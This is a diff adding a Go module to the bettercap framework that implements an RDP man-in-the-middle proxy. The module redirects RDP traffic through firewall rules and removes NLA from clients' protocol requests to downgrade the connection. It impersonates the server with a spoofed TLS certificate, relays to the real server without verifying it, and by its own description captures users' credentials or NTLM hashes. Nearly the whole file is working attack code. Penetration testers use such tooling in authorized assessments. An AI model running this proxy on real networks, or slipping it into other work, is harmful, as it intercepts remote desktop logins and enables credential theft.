@@ -0,0 +1,346 @@
+package rdp_proxy
+
+import (
+	"crypto/tls"
+	"fmt"
+	"net"
+	"time"
+
+	"github.com/bettercap/bettercap/firewall"
+	"github.com/bettercap/bettercap/session"
+	btls "github.com/bettercap/bettercap/tls"
+
+	"github.com/evilsocket/islazy/fs"
+)
+
+type RDPProxy struct {
+	session.SessionModule
+	Redirection *firewall.Redirection
+	localAddr   *net.TCPAddr
+	remoteAddr  *net.TCPAddr
+	listener    *net.TCPListener
+	tlsConfig   *tls.Config
+	downgrade   bool
+}
+
+func NewRDPProxy(s *session.Session) *RDPProxy {
+	mod := &RDPProxy{
+		SessionModule: session.NewSessionModule("rdp.proxy", s),
+	}
+
+	mod.AddParam(session.NewIntParameter("rdp.port",
+		"3389",
+		"RDP port to redirect when the proxy is activated."))
+
+	mod.AddParam(session.NewStringParameter("rdp.address",
+		"",
+		session.IPv4Validator,
+		"Address of the real RDP server."))
+
+	mod.AddParam(session.NewStringParameter("rdp.proxy.address",
+		session.ParamIfaceAddress,
+		session.IPv4Validator,
+		"Address to bind the RDP proxy to."))
+
+	mod.AddParam(session.NewIntParameter("rdp.proxy.port",
+		"3390",
+		"Port to bind the RDP proxy to."))
+
+	mod.AddParam(session.NewBoolParameter("rdp.proxy.downgrade",
+		"true",
+		"If true, NLA will be removed from the security protocols requested by clients in order to capture their credentials over TLS, if the server refuses the downgrade only the NTLM hash will be captured."))
+
+	mod.AddParam(session.NewStringParameter("rdp.proxy.certificate",
+		"~/.bettercap-rdp.cert.pem",
+		"",
+		"RDP proxy TLS certificate file."))
+
+	mod.AddParam(session.NewStringParameter("rdp.proxy.key",
+		"~/.bettercap-rdp.key.pem",
+		"",
+		"RDP proxy TLS key file."))
+
+	btls.CertConfigToModule("rdp.proxy", &mod.SessionModule, btls.DefaultSpoofConfig)
+	btls.SignedCertConfigToModule("rdp.proxy", &mod.SessionModule)
+
+	mod.AddHandler(session.NewModuleHandler("rdp.proxy on", "",
+		"Start the RDP proxy.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("rdp.proxy off", "",
+		"Stop the RDP proxy.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	return mod
+}
+
+func (mod *RDPProxy) Name() string {
+	return "rdp.proxy"
+}
+
+func (mod *RDPProxy) Description() string {
+	return "An RDP man in the middle proxy, it downgrades the security protocol negotiated by redirected clients and captures their credentials or NTLM hashes."
+}
+
+func (mod *RDPProxy) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func (mod *RDPProxy) Configure() error {
+	var err error
+	var port int
+	var proxyPort int
+	var address string
+	var proxyAddress string
+	var certFile string
+	var keyFile string
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted
+	} else if err, address = mod.StringParam("rdp.address"); err != nil {
+		return err
+	} else if err, proxyAddress = mod.StringParam("rdp.proxy.address"); err != nil {
+		return err
+	} else if err, proxyPort = mod.IntParam("rdp.proxy.port"); err != nil {
+		return err
+	} else if err, port = mod.IntParam("rdp.port"); err != nil {
+		return err
+	} else if err, mod.downgrade = mod.BoolParam("rdp.proxy.downgrade"); err != nil {
+		return err
+	} else if err, certFile = mod.StringParam("rdp.proxy.certificate"); err != nil {
+		return err
+	} else if certFile, err = fs.Expand(certFile); err != nil {
+		return err
+	} else if err, keyFile = mod.StringParam("rdp.proxy.key"); err != nil {
+		return err
+	} else if keyFile, err = fs.Expand(keyFile); err != nil {
+		return err
+	}
+
+	if !fs.Exists(certFile) || !fs.Exists(keyFile) {
+		err, cfg := btls.CertConfigFromModule("rdp.proxy", mod.SessionModule)
+		if err != nil {
+			return err
+		}
+
+		mod.Debug("%+v", cfg)
+		mod.Info("generating proxy TLS key to %s", keyFile)
+		mod.Info("generating proxy TLS certificate to %s", certFile)
+		if err := btls.Generate(cfg, certFile, keyFile); err != nil {
+			return err
+		}
+	} else {
+		mod.Info("loading proxy TLS key from %s", keyFile)
+		mod.Info("loading proxy TLS certificate from %s", certFile)
+	}
+
+	cert, err := tls.LoadX509KeyPair(certFile, keyFile)
+	if err != nil {
+		return err
+	}
+
+	mod.tlsConfig = &tls.Config{
+		Certificates: []tls.Certificate{cert},
+		// older clients and servers only speak TLS 1.0
+		MinVersion: tls.VersionTLS10,
+	}
+
+	if mod.localAddr, err = net.ResolveTCPAddr("tcp", fmt.Sprintf("%s:%d", proxyAddress, proxyPort)); err != nil {
+		return err
+	} else if mod.remoteAddr, err = net.ResolveTCPAddr("tcp", fmt.Sprintf("%s:%d", address, port)); err != nil {
+		return err
+	} else if mod.listener, err = net.ListenTCP("tcp", mod.localAddr); err != nil {
+		return err
+	}
+
+	if !mod.Session.Firewall.IsForwardingEnabled() {
+		mod.Info("enabling forwarding.")
+		mod.Session.Firewall.EnableForwarding(true)
+	}
+
+	mod.Redirection = firewall.NewRedirection(mod.Session.Interface.Name(),
+		"TCP",
+		port,
+		proxyAddress,
+		proxyPort)
+
+	mod.Redirection.SrcAddress = address
+
+	if err := mod.Session.Firewall.EnableRedirection(mod.Redirection, true); err != nil {
+		return err
+	}
+
+	mod.Debug("applied redirection %s", mod.Redirection.String())
+
+	return nil
+}
+
+// negotiate sends the connection request to the server and returns its connection confirm.
+func (mod *RDPProxy) negotiate(request []byte) (net.Conn, *x224Negotiation, error) {
+	server, err := net.DialTimeout("tcp", mod.remoteAddr.String(), 10*time.Second)
+	if err != nil {
+		return nil, nil, err
+	}
+
+	if _, err := server.Write(request); err != nil {
+		server.Close()
+		return nil, nil, err
+	}
+
+	packet, err := readTPKT(server)
+	if err != nil {
+		server.Close()
+		return nil, nil, err
+	}
+
+	err, confirm := parseX224(packet, x224ConnectionConfirm)
+	if err != nil {
+		server.Close()
+		return nil, nil, err
+	}
+
+	return server, confirm, nil
+}
+
+func (mod *RDPProxy) handleConnection(c *net.TCPConn) {
+	defer c.Close()
+
+	s := &rdpSession{
+		mod:    mod,
+		client: c.RemoteAddr().(*net.TCPAddr).IP.String(),
+		server: mod.remoteAddr.String(),
+	}
+
+	mod.Info("got a connection from %s", s.client)
+
+	packet, err := readTPKT(c)
+	if err != nil {
+		mod.Debug("%s: %s", s.client, err)
+		return
+	}
+
+	err, request := parseX224(packet, x224ConnectionRequest)
+	if err != nil {
+		mod.Warning("unexpected connection request from %s: %s", s.client, err)
+		return
+	}
+
+	requested := uint32(protocolRDP)
+	if request.negType == negTypeRequest {
+		requested = request.value
+	}
+
+	ev := RDPSessionEvent{
+		Client:    s.client,
+		Server:    s.server,
+		Cookie:    request.user(),
+		Requested: protocolsString(requested),
+	}
+
+	forward := request.raw
+	if mod.downgrade && requested&(protocolHybrid|protocolHybridEx) != 0 && requested&protocolSSL != 0 {
+		forward = request.withProtocols(requested & protocolSSL)
+		ev.Downgraded = true
+	}
+
+	server, confirm, err := mod.negotiate(forward)
+	if err == nil && ev.Downgraded && confirm.negType == negTypeFailure {
+		mod.Info("%s refused the downgrade of %s (%s), retrying with NLA", s.server, s.client, negFailures[confirm.value])
+		server.Close()
+		ev.Downgraded = false
+		server, confirm, err = mod.negotiate(request.raw)
+	}
+
+	if err != nil {
+		mod.Warning("error while connecting to remote %s: %s", s.server, err)
+		return
+	}
+	defer server.Close()
+
+	if _, err := c.Write(confirm.raw); err != nil {
+		mod.Debug("%s: %s", s.client, err)
+		return
+	}
+
+	if confirm.negType == negTypeFailure {
+		mod.Info("%s refused the security protocols of %s: %s", s.server, s.client, negFailures[confirm.value])
+		return
+	}
+
+	selected := uint32(protocolRDP)
+	if confirm.negType == negTypeResponse {
+		selected = confirm.value
+	}
+
+	ev.Selected = protocolsString(selected)
+	mod.Session.Events.Add("rdp.proxy.session", ev)
+
+	if selected == protocolRDP {
+		// standard RDP security uses the server keys, we can only forward the traffic
+		mod.Info("%s is using standard RDP security, relaying without inspection", s.client)
+		s.relay(c, server, selected)
+		return
+	} else if selected&protocolRDSTLS != 0 {
+		mod.Info("%s is using RDSTLS, relaying without inspection", s.client)
+		s.relay(c, server, selected)
+		return
+	}
+
+	victim := tls.Server(c, mod.tlsConfig)
+	if err := victim.Handshake(); err != nil {
+		mod.Warning("TLS handshake with %s failed: %s", s.client, err)
+		return
+	}
+
+	upstream := tls.Client(server, &tls.Config{
+		InsecureSkipVerify: true,
+		MinVersion:         tls.VersionTLS10,
+	})
+	if err := upstream.Handshake(); err != nil {
+		mod.Warning("TLS handshake with %s failed: %s", s.server, err)
+		return
+	}
+
+	s.relay(victim, upstream, selected)
+	mod.Debug("session of %s closed", s.client)
+}
+
+func (mod *RDPProxy) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		mod.Info("started ( x -> %s -> %s )", mod.localAddr.String(), mod.remoteAddr.String())
+
+		for mod.Running() {
+			conn, err := mod.listener.AcceptTCP()
+			if err != nil {
+				if mod.Running() {
+					mod.Warning("error while accepting TCP connection: %s", err)
+				}
+				continue
+			}
+
+			go mod.handleConnection(conn)
+		}
+	})
+}
+
+func (mod *RDPProxy) Stop() error {
+	if mod.Redirection != nil {
+		mod.Debug("disabling redirection %s", mod.Redirection.String())
+		if err := mod.Session.Firewall.EnableRedirection(mod.Redirection, false); err != nil {
+			return err
+		}
+		mod.Redirection = nil
+	}
+
+	return mod.SetRunning(false, func() {
+		mod.listener.Close()
+	})
+}